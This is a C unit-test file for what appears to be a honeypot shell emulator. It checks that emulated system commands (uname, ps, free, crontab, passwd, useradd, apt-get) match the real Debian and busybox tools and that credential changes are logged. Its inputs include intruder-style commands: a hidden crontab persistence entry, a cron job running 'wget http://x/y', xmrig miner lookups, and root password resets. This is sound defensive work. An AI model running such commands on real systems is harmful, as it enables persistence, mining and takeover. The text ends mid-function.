/*
 * test_cmd_sys.c - unit tests for the system programs (src/shell/cmd_sys.c,
 * cmd_proc.c, cmd_admin.c) on the Debian and busybox personalities.
 *
 * Each test runs argv (+ stdin) through a fake interpreter
 * (cmd_fixture.h) and checks the exact stdout, stderr and status of the
 * real tools (coreutils 9.1, procps-ng 4.0.2, util-linux 2.38, bash 5.2
 * built-ins; busybox applets), and that the programs agree with the /proc
 * files the vfs generates: nproc and lscpu with /proc/cpuinfo, free with
 * /proc/meminfo, uptime with /proc/uptime, uname -m with the ELF machine.
 * Changes made by crontab, useradd, passwd and chpasswd are checked in the
 * vfs and in the events.
 */
#include "cmd_fixture.h"
#include <time.h>

/* ---- uname, id, whoami -------------------------------------------------------------- */

static void test_uname(void **state)
{
    struct fx *f = fx_new("debian", true);
    const struct hp_persona *p = f->c.persona;
    char want[512];
    assert_int_equal(fx_run(f, "uname -a", NULL), 0);
    snprintf(want, sizeof(want), "Linux %s %s %s %s GNU/Linux\n", p->hostname, p->kernel_release, p->kernel_version,
             p->machine);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "uname", NULL), 0);
    assert_string_equal(fx_out(f), "Linux\n");
    assert_int_equal(fx_run(f, "uname -snrm", NULL), 0);
    snprintf(want, sizeof(want), "Linux %s %s %s\n", p->hostname, p->kernel_release, p->machine);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "uname -p -i", NULL), 0);
    assert_string_equal(fx_out(f), "unknown unknown\n");
    assert_int_equal(fx_run(f, "uname -x", NULL), 1);
    assert_string_equal(fx_err(f), "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n");
    assert_int_equal(fx_run(f, "uname --foo", NULL), 1);
    assert_string_equal(fx_err(f), "uname: unrecognized option '--foo'\nTry 'uname --help' for more information.\n");
    assert_int_equal(fx_run(f, "uname a", NULL), 1);
    assert_string_equal(fx_err(f), "uname: extra operand \xe2\x80\x98" "a\xe2\x80\x99\nTry 'uname --help' for more information.\n");
    assert_int_equal(fx_run(f, "uname --machine", NULL), 0);
    snprintf(want, sizeof(want), "%s\n", p->machine);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "uname --help", NULL), 0);
    assert_prefix(fx_out(f), "Usage: uname [OPTION]...\n");
    assert_int_equal(fx_run(f, "uname --version", NULL), 0);
    assert_prefix(fx_out(f), "uname (GNU coreutils) 9.1\n");
    fx_free(f);

    f = fx_new("busybox", true);
    p = f->c.persona;
    assert_int_equal(fx_run(f, "uname -a", NULL), 0);
    snprintf(want, sizeof(want), "Linux %s %s %s %s GNU/Linux\n", p->hostname, p->kernel_release, p->kernel_version,
             p->machine);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "uname -x", NULL), 1);
    snprintf(want, sizeof(want), "uname: invalid option -- 'x'\n%s\n\nUsage: uname [-amnrspvio]\n", p->busybox_banner);
    assert_true(strncmp(fx_err(f), want, strlen(want)) == 0);
    fx_free(f);
}

/* uname -m, the ELF machine of the personality's binaries and /proc/cpuinfo agree. */
static void test_uname_machine_consistency(void **state)
{
    static const char *const names[] = { "debian", "busybox" };
    for (size_t i = 0; i < 2; i++) {
        struct fx *f = fx_new(names[i], true);
        const struct hp_persona *p = f->c.persona;
        assert_int_equal(fx_run(f, "uname -m", NULL), 0);
        char m[32];
        snprintf(m, sizeof(m), "%s", fx_out(f));
        m[strcspn(m, "\n")] = '\0';
        if (!strcmp(m, "x86_64"))
            assert_true(p->elf_machine == 62 && p->elf_64);
        else if (!strncmp(m, "arm", 3))
            assert_int_equal(p->elf_machine, 40);
        else if (!strncmp(m, "mips", 4))
            assert_int_equal(p->elf_machine, 8);
        else
            fail_msg("unexpected machine %s", m);
        assert_int_equal(fx_run(f, "arch", NULL), 0);
        assert_true(strncmp(fx_out(f), m, strlen(m)) == 0);
        fx_free(f);
    }
}

static void test_id_whoami(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "id", NULL), 0);
    assert_string_equal(fx_out(f), "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_int_equal(fx_run(f, "id -u", NULL), 0);
    assert_string_equal(fx_out(f), "0\n");
    assert_int_equal(fx_run(f, "id -un", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "id -gn", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "id nosuch", NULL), 1);
    assert_string_equal(fx_err(f), "id: \xe2\x80\x98nosuch\xe2\x80\x99: no such user\n");
    assert_int_equal(fx_run(f, "id -q", NULL), 1);
    assert_string_equal(fx_err(f), "id: invalid option -- 'q'\nTry 'id --help' for more information.\n");
    assert_int_equal(fx_run(f, "whoami", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "whoami x", NULL), 1);
    assert_string_equal(fx_err(f), "whoami: extra operand \xe2\x80\x98x\xe2\x80\x99\nTry 'whoami --help' for more information.\n");
    assert_int_equal(fx_run(f, "groups", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    fx_free(f);
    f = fx_new("debian", false);
    assert_int_equal(fx_run(f, "id -u", NULL), 0);
    assert_string_equal(fx_out(f), "1000\n");
    assert_int_equal(fx_run(f, "whoami", NULL), 0);
    assert_string_equal(fx_out(f), "alice\n");
    fx_free(f);
}

/* ---- uptime, w, who, last -------------------------------------------------------------- */

static void test_uptime_w(void **state)
{
    struct fx *f = fx_new("debian", true);
    unsigned l[3];
    hp_persona_load(f->c.persona, f->c.now_s, l);
    struct tm tm;
    time_t now = (time_t)f->c.now_s;
    gmtime_r(&now, &tm);
    char want[512], line[256];
    /* the fixture's clock is 3 days 2:02:02 after boot */
    snprintf(line, sizeof(line), " %02d:%02d:%02d up 3 days,  2:02,  1 user,  load average: %u.%02u, %u.%02u, %u.%02u\n",
             tm.tm_hour, tm.tm_min, tm.tm_sec, l[0] / 100, l[0] % 100, l[1] / 100, l[1] % 100, l[2] / 100, l[2] % 100);
    assert_int_equal(fx_run(f, "uptime", NULL), 0);
    assert_string_equal(fx_out(f), line);
    assert_int_equal(fx_run(f, "uptime -p", NULL), 0);
    assert_string_equal(fx_out(f), "up 3 days, 2 hours, 2 minutes\n");
    assert_int_equal(fx_run(f, "w", NULL), 0);
    time_t login = (time_t)f->sess.login_s;
    struct tm lt;
    gmtime_r(&login, &lt);
    snprintf(want, sizeof(want), "%sUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"
                                 "root     pts/0    203.0.113.7      %02d:%02d    0.00s  0.01s  0.00s w\n",
             line, lt.tm_hour, lt.tm_min);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "who", NULL), 0);
    snprintf(want, sizeof(want), "root     pts/0        %04d-%02d-%02d %02d:%02d (203.0.113.7)\n", lt.tm_year + 1900,
             lt.tm_mon + 1, lt.tm_mday, lt.tm_hour, lt.tm_min);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "users", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "last", NULL), 0);
    assert_non_null(strstr(fx_out(f), "root     pts/0        203.0.113.7      "));
    assert_non_null(strstr(fx_out(f), "   still logged in\n"));
    assert_non_null(strstr(fx_out(f), "\nwtmp begins "));
    fx_free(f);

    f = fx_new("busybox", true);
    hp_persona_load(f->c.persona, f->c.now_s, l);
    now = (time_t)f->c.now_s;
    gmtime_r(&now, &tm);
    snprintf(line, sizeof(line), " %02d:%02d:%02d up 3 days,  2:02,  load average: %u.%02u, %u.%02u, %u.%02u\n",
             tm.tm_hour, tm.tm_min, tm.tm_sec, l[0] / 100, l[0] % 100, l[1] / 100, l[1] % 100, l[2] / 100, l[2] % 100);
    assert_int_equal(fx_run(f, "uptime", NULL), 0);
    assert_string_equal(fx_out(f), line);
    fx_free(f);
}

/* uptime agrees with /proc/uptime and uptime -s with the boot time. */
static void test_uptime_proc_consistency(void **state)
{
    struct fx *f = fx_new("debian", true);
    const char *u = fx_file(f, "/proc/uptime");
    assert_non_null(u);
    unsigned long long secs = strtoull(u, NULL, 10);
    assert_int_equal(secs, hp_persona_uptime(f->c.persona, f->c.now_s));
    assert_int_equal(fx_run(f, "uptime -s", NULL), 0);
    time_t boot = (time_t)(f->c.now_s - (int64_t)secs);
    struct tm tm;
    gmtime_r(&boot, &tm);
    char want[64];
    strftime(want, sizeof(want), "%Y-%m-%d %H:%M:%S\n", &tm);
    assert_string_equal(fx_out(f), want);
    fx_free(f);
}

/* ---- memory, disks, CPU ---------------------------------------------------------------- */

static unsigned long long meminfo(struct fx *f, const char *key)
{
    const char *m = fx_file(f, "/proc/meminfo");
    assert_non_null(m);
    const char *k = strstr(m, key);
    assert_non_null(k);
    return strtoull(k + strlen(key) + 1, NULL, 10);
}

static void test_free_mem(void **state)
{
    static const char *const names[] = { "debian", "busybox" };
    for (size_t i = 0; i < 2; i++) {
        struct fx *f = fx_new(names[i], true);
        unsigned long long total = meminfo(f, "MemTotal:"), mfree = meminfo(f, "MemFree:");
        assert_int_equal(fx_run(f, "free -m", NULL), 0);
        const char *mem = strstr(fx_out(f), "Mem:");
        assert_non_null(mem);
        unsigned long long t = 0, used = 0, fr = 0;
        assert_int_equal(sscanf(mem + 4, "%llu %llu %llu", &t, &used, &fr), 3);
        assert_int_equal(t, total / 1024);
        assert_int_equal(fr, mfree / 1024);
        assert_int_equal(fx_run(f, "free -b", NULL), 0);
        mem = strstr(fx_out(f), "Mem:");
        assert_int_equal(strtoull(mem + 4, NULL, 10), total * 1024);
        assert_int_equal(fx_run(f, "free", NULL), 0);
        mem = strstr(fx_out(f), "Mem:");
        assert_int_equal(strtoull(mem + 4, NULL, 10), total);
        if (i == 0) {
            assert_prefix(fx_out(f), "               total        used        free      shared  buff/cache   available\n"
                                           "Mem:    ");
            assert_int_equal(fx_run(f, "free -h", NULL), 0);
            assert_non_null(strstr(fx_out(f), "Gi "));
            assert_non_null(strstr(fx_out(f), "\nSwap:  "));
            assert_int_equal(fx_run(f, "free -t", NULL), 0);
            assert_non_null(strstr(fx_out(f), "\nTotal: "));
            assert_int_equal(fx_run(f, "free -x", NULL), 1);
            assert_string_equal(fx_err(f), "free: invalid option -- 'x'\n\nUsage:\n free [options]\n\nFor more details see free(1).\n");
        } else {
            assert_prefix(fx_out(f), "              total        used        free      shared  buff/cache   available\n"
                                           "Mem:   ");
        }
        fx_free(f);
    }
}

static void test_df(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "df", NULL), 0);
    assert_prefix(fx_out(f), "Filesystem     1K-blocks    Used Available Use% Mounted on\n");
    assert_non_null(strstr(fx_out(f), "% /\n"));
    assert_int_equal(fx_run(f, "df -h", NULL), 0);
    assert_prefix(fx_out(f), "Filesystem      Size  Used Avail Use% Mounted on\n");
    assert_int_equal(fx_run(f, "df -T", NULL), 0);
    assert_non_null(strstr(fx_out(f), " ext4 "));
    assert_int_equal(fx_run(f, "df -z", NULL), 1);
    assert_string_equal(fx_err(f), "df: invalid option -- 'z'\nTry 'df --help' for more information.\n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "df", NULL), 0);
    assert_prefix(fx_out(f), "Filesystem           1K-blocks      Used Available Use% Mounted on\n");
    fx_free(f);
}

static void test_cpu_consistency(void **state)
{
    static const char *const names[] = { "debian", "busybox" };
    for (size_t i = 0; i < 2; i++) {
        struct fx *f = fx_new(names[i], true);
        const char *ci = fx_file(f, "/proc/cpuinfo");
        assert_non_null(ci);
        unsigned procs = 0;
        for (const char *l = ci; l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL)
            if (!strncmp(l, "processor", 9))
                procs++;
        char want[32];
        snprintf(want, sizeof(want), "%u\n", procs);
        assert_int_equal(fx_run(f, "nproc", NULL), 0);
        assert_string_equal(fx_out(f), want);
        assert_int_equal(fx_run(f, "getconf _NPROCESSORS_ONLN", NULL), 0);
        assert_string_equal(fx_out(f), want);
        if (i == 0) {
            char model[160];
            const char *mn = strstr(ci, "model name\t: ");
            assert_non_null(mn);
            snprintf(model, sizeof(model), "  Model name:            %.*s\n", (int)strcspn(mn + 13, "\n"), mn + 13);
            assert_int_equal(fx_run(f, "lscpu", NULL), 0);
            assert_non_null(strstr(fx_out(f), model));
            snprintf(want, sizeof(want), "\nCPU(s):                  %u\n", procs);
            assert_non_null(strstr(fx_out(f), want));
            assert_prefix(fx_out(f), "Architecture:            x86_64\n");
            assert_int_equal(fx_run(f, "getconf LONG_BIT", NULL), 0);
            assert_string_equal(fx_out(f), "64\n");
            assert_int_equal(fx_run(f, "getconf FOO", NULL), 1);
            assert_string_equal(fx_err(f), "getconf: Unrecognized variable 'FOO'\n");
        }
        fx_free(f);
    }
}

/* ---- processes ------------------------------------------------------------------------ */

static void test_ps(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "ps", NULL), 0);
    assert_string_equal(fx_out(f), "    PID TTY          TIME CMD\n"
                                   "   2345 pts/0    00:00:00 bash\n"
                                   "   2346 pts/0    00:00:00 ps\n");
    assert_int_equal(fx_run(f, "ps aux", NULL), 0);
    assert_prefix(fx_out(f), "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
                                   "root           1 ");
    assert_non_null(strstr(fx_out(f), "pts/0    Ss   "));
    assert_non_null(strstr(fx_out(f), " -bash\n"));
    assert_non_null(strstr(fx_out(f), "sshd: root@pts/0\n"));
    assert_non_null(strstr(fx_out(f), " ps aux\n"));
    assert_int_equal(fx_run(f, "ps -ef", NULL), 0);
    assert_prefix(fx_out(f), "UID          PID    PPID  C STIME TTY          TIME CMD\n"
                                   "root           1       0  0 ");
    assert_non_null(strstr(fx_out(f), "root        2345    2343  0 "));
    assert_int_equal(fx_run(f, "ps -o pid,comm", NULL), 0);
    assert_string_equal(fx_out(f), "    PID COMMAND\n   2345 bash\n   2346 ps\n");
    assert_int_equal(fx_run(f, "ps -p 1 -o comm=", NULL), 0);
    assert_string_equal(fx_out(f), "systemd\n");
    assert_int_equal(fx_run(f, "ps -o bogus", NULL), 1);
    assert_prefix(fx_err(f), "error: unknown user-defined format specifier \"bogus\"\n");
    fx_free(f);

    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "ps", NULL), 0);
    assert_prefix(fx_out(f), "  PID USER       VSZ STAT COMMAND\n    1 root      ");
    assert_non_null(strstr(fx_out(f), " 2345 root      1516 S    -sh\n"));
    assert_non_null(strstr(fx_out(f), " 2346 root      1516 R    ps\n"));
    assert_int_equal(fx_run(f, "ps -ef", NULL), 1);
    assert_prefix(fx_err(f), "ps: invalid option -- 'e'\nBusyBox v");
    fx_free(f);
}

static void test_top(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "top -bn1", NULL), 0);
    const char *o = fx_out(f);
    assert_prefix(o, "top - ");
    assert_non_null(strstr(o, " up 3 days,  2:02,  1 user,  load average: "));
    assert_non_null(strstr(o, "\nTasks: "));
    assert_non_null(strstr(o, "\n%Cpu(s): "));
    char want[128];
    snprintf(want, sizeof(want), "\nMiB Mem : %8.1f total, ", meminfo(f, "MemTotal:") / 1024.0);
    assert_non_null(strstr(o, want));
    assert_non_null(strstr(o, "\n    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND\n"));
    assert_non_null(strstr(o, " systemd\n"));
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "top -bn1", NULL), 0);
    assert_prefix(fx_out(f), "Mem: ");
    assert_non_null(strstr(fx_out(f), "\n  PID  PPID USER     STAT   VSZ %VSZ CPU %CPU COMMAND\n"));
    fx_free(f);
}

static void test_pidof_pgrep(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "pidof sshd", NULL), 0);
    assert_string_equal(fx_out(f), "2343 551\n");
    assert_int_equal(fx_run(f, "pidof xmrig", NULL), 1);
    assert_string_equal(fx_out(f), "");
    assert_int_equal(fx_run(f, "pgrep cron", NULL), 0);
    assert_string_equal(fx_out(f), "535\n");
    assert_int_equal(fx_run(f, "pgrep -l cron", NULL), 0);
    assert_string_equal(fx_out(f), "535 cron\n");
    assert_int_equal(fx_run(f, "pgrep kdevtmpfsi", NULL), 1);
    assert_int_equal(fx_run(f, "pkill -9 xmrig", NULL), 1);
    assert_string_equal(fx_err(f), "");
    fx_free(f);
}

static void test_kill(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "kill 99999", NULL), 1);
    assert_string_equal(fx_err(f), "-bash: kill: (99999) - No such process\n");
    assert_int_equal(fx_run(f, "kill -9 abc", NULL), 1);
    assert_string_equal(fx_err(f), "-bash: kill: abc: arguments must be process or job IDs\n");
    assert_int_equal(fx_run(f, "kill -FOO 1", NULL), 1);
    assert_string_equal(fx_err(f), "-bash: kill: FOO: invalid signal specification\n");
    assert_int_equal(fx_run(f, "kill", NULL), 2);
    assert_string_equal(fx_err(f), "-bash: kill: usage: kill [-s sigspec | -n signum | -sigspec] pid | jobspec ... or kill -l [sigspec]\n");
    assert_int_equal(fx_run(f, "kill -l 9", NULL), 0);
    assert_string_equal(fx_out(f), "KILL\n");
    assert_int_equal(fx_run(f, "kill -l", NULL), 0);
    assert_prefix(fx_out(f), " 1) SIGHUP\t 2) SIGINT\t 3) SIGQUIT\t 4) SIGILL\t 5) SIGTRAP\n");
    assert_non_null(strstr(fx_out(f), "\n63) SIGRTMAX-1\t64) SIGRTMAX\t\n"));
    assert_int_equal(fx_run(f, "kill 2345", NULL), 0);            /* an interactive bash ignores TERM */
    assert_int_equal(f->logouts, 0);
    assert_int_equal(fx_run(f, "kill 535", NULL), 0);
    assert_int_equal(f->logouts, 0);
    assert_int_equal(fx_run(f, "kill -9 2345", NULL), 0);
    assert_int_equal(f->logouts, 1);
    assert_int_equal(f->logout_status, 137);
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "kill 99999", NULL), 1);
    assert_string_equal(fx_err(f), "sh: can't kill pid 99999: No such process\n");
    fx_free(f);
}

/* ---- running other programs ------------------------------------------------------------ */

static void test_wrappers(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "sudo id -u", NULL), 0);
    assert_string_equal(fx_out(f), "0\n");
    assert_int_equal(fx_run(f, "sudo nosuchprog", NULL), 1);
    assert_string_equal(fx_err(f), "sudo: nosuchprog: command not found\n");
    assert_int_equal(fx_run(f, "env whoami", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "env A=1 nosuch", NULL), 127);
    assert_string_equal(fx_err(f), "env: \xe2\x80\x98nosuch\xe2\x80\x99: No such file or directory\n");
    assert_int_equal(fx_run(f, "env", NULL), 0);
    assert_non_null(strstr(fx_out(f), "HOME=/root\n"));
    assert_int_equal(fx_run(f, "nohup", NULL), 125);
    assert_string_equal(fx_err(f), "nohup: missing operand\nTry 'nohup --help' for more information.\n");
    assert_int_equal(fx_run(f, "nohup whoami", NULL), 0);
    assert_string_equal(fx_err(f), "nohup: ignoring input and appending output to 'nohup.out'\n");
    assert_non_null(fx_file(f, "/root/nohup.out"));
    assert_int_equal(fx_run(f, "timeout 10 whoami", NULL), 0);
    assert_string_equal(fx_out(f), "root\n");
    assert_int_equal(fx_run(f, "timeout x whoami", NULL), 125);
    assert_string_equal(fx_err(f), "timeout: invalid time interval \xe2\x80\x98x\xe2\x80\x99\nTry 'timeout --help' for more information.\n");
    assert_int_equal(fx_run(f, "su -c id", NULL), 0);
    assert_int_equal(f->scripts, 1);
    assert_string_equal(f->script, "id");
    fx_free(f);

    f = fx_new("debian", false);
    assert_int_equal(fx_run(f, "sudo id", NULL), 1);
    assert_string_equal(fx_err(f), "[sudo] password for alice: \nSorry, try again.\n"
                                   "[sudo] password for alice: \nSorry, try again.\n"
                                   "[sudo] password for alice: \nsudo: 3 incorrect password attempts\n");
    assert_int_equal(fx_run(f, "su", NULL), 1);
    assert_string_equal(fx_err(f), "Password: \nsu: Authentication failure\n");
    fx_free(f);
}

static void test_busybox(void **state)
{
    struct fx *f = fx_new("busybox", true);
    const struct hp_persona *p = f->c.persona;
    assert_int_equal(fx_run(f, "busybox ECCHI", NULL), 127);
    assert_string_equal(fx_err(f), "ECCHI: applet not found\n");
    assert_string_equal(fx_out(f), "");
    assert_int_equal(fx_run(f, "busybox uname -m", NULL), 0);
    char want[256];
    snprintf(want, sizeof(want), "%s\n", p->machine);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "busybox", NULL), 0);
    snprintf(want, sizeof(want), "%s\nBusyBox is copyrighted by many authors between ", p->busybox_banner);
    assert_true(strncmp(fx_out(f), want, strlen(want)) == 0);
    assert_non_null(strstr(fx_out(f), "Currently defined functions:\n\t[, [[, "));
    /* wrapped like busybox: no line longer than 80 columns (a tab counts 8) */
    for (const char *l = strstr(fx_out(f), "functions:\n") + 11; *l;) {
        size_t n = strcspn(l, "\n");
        assert_true(n + 7 <= 80);
        l += n + (l[n] ? 1 : 0);
    }
    assert_int_equal(fx_run(f, "busybox --list", NULL), 0);
    assert_non_null(strstr(fx_out(f), "\nwget\n"));
    fx_free(f);
}

static void test_ulimit_history_sleep(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "ulimit -n", NULL), 0);
    assert_string_equal(fx_out(f), "1024\n");
    assert_int_equal(fx_run(f, "ulimit -a", NULL), 0);
    assert_prefix(fx_out(f), "real-time non-blocking time  (microseconds, -R) unlimited\n"
                                   "core file size              (blocks, -c) 0\n");
    assert_int_equal(fx_run(f, "ulimit -n 65535", NULL), 0);
    assert_int_equal(fx_run(f, "ulimit -n abc", NULL), 1);
    assert_string_equal(fx_err(f), "-bash: ulimit: abc: invalid number\n");
    f->history[0] = "uname -a";
    f->history[1] = "history";
    f->nhistory = 2;
    assert_int_equal(fx_run(f, "history", NULL), 0);
    assert_string_equal(fx_out(f), "    1  uname -a\n    2  history\n");
    assert_int_equal(fx_run(f, "sleep 1", NULL), 0);
    assert_int_equal(fx_run(f, "sleep 0.5s 1m", NULL), 0);
    assert_int_equal(fx_run(f, "sleep", NULL), 1);
    assert_string_equal(fx_err(f), "sleep: missing operand\nTry 'sleep --help' for more information.\n");
    assert_int_equal(fx_run(f, "sleep abc", NULL), 1);
    assert_string_equal(fx_err(f), "sleep: invalid time interval \xe2\x80\x98" "abc\xe2\x80\x99\nTry 'sleep --help' for more information.\n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "sleep abc", NULL), 1);
    assert_string_equal(fx_err(f), "sleep: invalid number 'abc'\n");
    fx_free(f);
}

static void test_date_hostname(void **state)
{
    struct fx *f = fx_new("debian", true);
    char want[128];
    assert_int_equal(fx_run(f, "date +%s", NULL), 0);
    snprintf(want, sizeof(want), "%lld\n", (long long)f->c.now_s);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "date -u -d @0", NULL), 0);
    assert_string_equal(fx_out(f), "Thu Jan  1 00:00:00 UTC 1970\n");
    assert_int_equal(fx_run(f, "date -R -d @86400", NULL), 0);
    assert_string_equal(fx_out(f), "Fri, 02 Jan 1970 00:00:00 +0000\n");
    assert_int_equal(fx_run(f, "date -d bogus", NULL), 1);
    assert_string_equal(fx_err(f), "date: invalid date \xe2\x80\x98" "bogus\xe2\x80\x99\n");
    assert_int_equal(fx_run(f, "hostname", NULL), 0);
    snprintf(want, sizeof(want), "%s\n", f->c.persona->hostname);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "hostname -I", NULL), 0);
    assert_string_equal(fx_out(f), "10.20.0.5 \n");
    fx_free(f);
}

/* ---- administration ---------------------------------------------------------------------- */

static void test_crontab(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "crontab -l", NULL), 1);
    assert_string_equal(fx_err(f), "no crontab for root\n");
    assert_int_equal(fx_run(f, "crontab -", "* * * * * /tmp/.x/upd >/dev/null 2>&1\n"), 0);
    assert_int_equal(fx_run(f, "crontab -l", NULL), 0);
    assert_string_equal(fx_out(f), "* * * * * /tmp/.x/upd >/dev/null 2>&1\n");
    const char *file = fx_file(f, "/var/spool/cron/crontabs/root");
    assert_non_null(file);
    assert_prefix(file, "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n");
    assert_int_equal(fx_run(f, "crontab -", "bogus line\n"), 1);
    assert_string_equal(fx_err(f), "\"-\":1: bad minute\nerrors in crontab file, can't install.\n");
    assert_int_equal(fx_run(f, "crontab -r", NULL), 0);
    assert_int_equal(fx_run(f, "crontab -l", NULL), 1);
    assert_int_equal(fx_run(f, "crontab /nonexistent", NULL), 1);
    assert_string_equal(fx_err(f), "/nonexistent: No such file or directory\n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "crontab -l", NULL), 1);
    assert_string_equal(fx_err(f), "crontab: can't open 'root': No such file or directory\n");
    assert_int_equal(fx_run(f, "crontab -", "*/5 * * * * wget http://x/y\n"), 0);
    assert_int_equal(fx_run(f, "crontab -l", NULL), 0);
    assert_string_equal(fx_out(f), "*/5 * * * * wget http://x/y\n");
    fx_free(f);
}

static void test_passwords(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "passwd", "S3cret!\nS3cret!\n"), 0);
    assert_string_equal(fx_out(f), "passwd: password updated successfully\n");
    assert_string_equal(fx_err(f), "New password: Retype new password: \n");
    assert_int_equal(f->nev, 1);
    assert_string_equal(f->ev_id[0], "session.password_change");
    assert_string_equal(f->ev_key[0], "credentials");
    assert_string_equal(f->ev_val[0], "root:S3cret!");
    assert_int_equal(fx_run(f, "passwd", "a\nb\n"), 10);
    assert_string_equal(fx_err(f), "New password: Retype new password: Sorry, passwords do not match.\n"
                                   "passwd: Authentication token manipulation error\npasswd: password unchanged\n");
    f->nev = 0;
    assert_int_equal(fx_run(f, "chpasswd", "root:abc123\nadmin:xyz\n"), 0);
    assert_string_equal(fx_out(f), "");
    assert_string_equal(fx_err(f), "");
    assert_int_equal(f->nev, 2);
    assert_string_equal(f->ev_val[0], "root:abc123");
    assert_string_equal(f->ev_val[1], "admin:xyz");
    assert_int_equal(fx_run(f, "chpasswd", "nocolon\n"), 1);
    assert_string_equal(fx_err(f), "chpasswd: line 1: missing new password\nchpasswd: error detected, changes ignored\n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "passwd", "x\nx\n"), 0);
    assert_string_equal(fx_out(f), "Changing password for root\nNew password: \nRetype password: \n"
                                   "passwd: password for root changed by root\n");
    fx_free(f);
}

static void test_users(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "useradd -m -s /bin/bash -p x0x bob", NULL), 0);
    const char *pw = fx_file(f, "/etc/passwd");
    assert_non_null(pw);
    assert_non_null(strstr(pw, "\nbob:x:"));
    assert_non_null(strstr(pw, ":/home/bob:/bin/bash\n"));
    const char *sh = fx_file(f, "/etc/shadow");
    assert_non_null(sh);
    assert_non_null(strstr(sh, "bob:x0x:"));
    struct sh_stat st;
    assert_int_equal(sh_vfs_stat(f->c.fs, "/home/bob", true, &st), 0);
    assert_int_equal(fx_run(f, "useradd bob", NULL), 9);
    assert_string_equal(fx_err(f), "useradd: user 'bob' already exists\n");
    assert_int_equal(fx_run(f, "userdel bob", NULL), 0);
    assert_null(strstr(fx_file(f, "/etc/passwd"), "\nbob:"));
    assert_int_equal(fx_run(f, "userdel bob", NULL), 6);
    assert_string_equal(fx_err(f), "userdel: user 'bob' does not exist\n");
    assert_int_equal(fx_run(f, "groupadd root", NULL), 9);
    assert_string_equal(fx_err(f), "groupadd: group 'root' already exists\n");
    fx_free(f);
    f = fx_new("debian", false);
    assert_int_equal(fx_run(f, "useradd eve", NULL), 1);
    assert_string_equal(fx_err(f), "useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again later.\n");
    fx_free(f);
}

static void test_packages_services(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "apt-get install -y xmrig", NULL), 100);
    assert_string_equal(fx_out(f), "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n");
    assert_string_equal(fx_err(f), "E: Unable to locate package xmrig\n");
    assert_int_equal(fx_run(f, "apt-get install wget", NULL), 0);
    assert_non_null(strstr(fx_out(f), "wget is already the newest version (1.21.3-1+b2).\n"
                                      "0 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n"));
    assert_int_equal(fx_run(f, "apt-get update", NULL), 0);
    assert_prefix(fx_out(f), "Err:1 http://deb.debian.org/debian bookworm InRelease\n"
                                   "  Temporary failure resolving 'deb.debian.org'\n");
    assert_non_null(strstr(fx_err(f), "W: Some index files failed to download. They have been ignored, or old ones used instead.\n"));
    assert_int_equal(f->nfetch, 3);
    assert_int_equal(fx_run(f, "dpkg -l", NULL), 0);
    assert_prefix(fx_out(f), "Desired=Unknown/Install/Remove/Purge/Hold\n");
    assert_non_null(strstr(fx_out(f), "\nii  openssh-server "));
    assert_int_equal(fx_run(f, "systemctl status nosuch", NULL), 4);
    assert_string_equal(fx_err(f), "Unit nosuch.service could not be found.\n");
    assert_int_equal(fx_run(f, "systemctl status ssh", NULL), 0);
    assert_prefix(fx_out(f), "\xe2\x97\x8f ssh.service - OpenBSD Secure Shell server\n");
    assert_int_equal(fx_run(f, "systemctl start nosuch", NULL), 5);
    assert_string_equal(fx_err(f), "Failed to start nosuch.service: Unit nosuch.service not found.\n");
    assert_int_equal(fx_run(f, "systemctl enable cron", NULL), 0);
